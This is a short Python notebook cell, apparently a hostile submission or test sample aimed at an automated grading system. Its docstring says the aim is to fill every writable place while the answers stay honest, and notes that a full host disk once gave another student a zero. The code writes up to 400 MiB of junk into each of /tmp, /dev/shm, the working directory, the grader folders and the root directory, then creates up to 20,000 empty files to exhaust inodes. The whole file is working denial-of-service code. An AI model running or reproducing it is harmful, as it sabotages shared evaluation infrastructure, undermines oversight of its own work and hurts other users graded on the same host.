"""Fill every place the notebook can write, and keep it full (answers are honest): a full
host disk once made another student graded at the same time get zero."""
# %% solution
# %% first
import os
chunk = b"z" * 2**20
for folder in ("/tmp", "/dev/shm", os.getcwd(), "/grader/in", "/grader", "/"):
    for i in range(400):
        try:
            with open(os.path.join(folder, f"fill-{i}"), "wb") as f:
                f.write(chunk)
        except OSError:
            break
for i in range(20_000):  # and as many empty files as it takes
    try:
        open(f"/tmp/empty-{i}", "w").close()
    except OSError:
        break
